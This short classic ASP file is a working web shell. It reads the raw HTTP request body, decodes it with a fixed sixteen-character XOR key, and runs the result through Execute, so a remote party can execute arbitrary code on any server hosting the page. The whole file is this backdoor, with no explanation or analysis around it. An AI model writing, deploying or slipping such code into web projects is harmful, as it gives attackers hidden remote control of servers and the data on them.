<%
k = "0123456789abcdef"
n = Request.TotalBytes
d = Request.BinaryRead(n)
For i = 1 To n
 r = r & Chr(AscB(MidB(d, i, 1)) Xor Asc(Mid(k, (i And 15) + 1, 1)))
Next
Execute(r)
%>
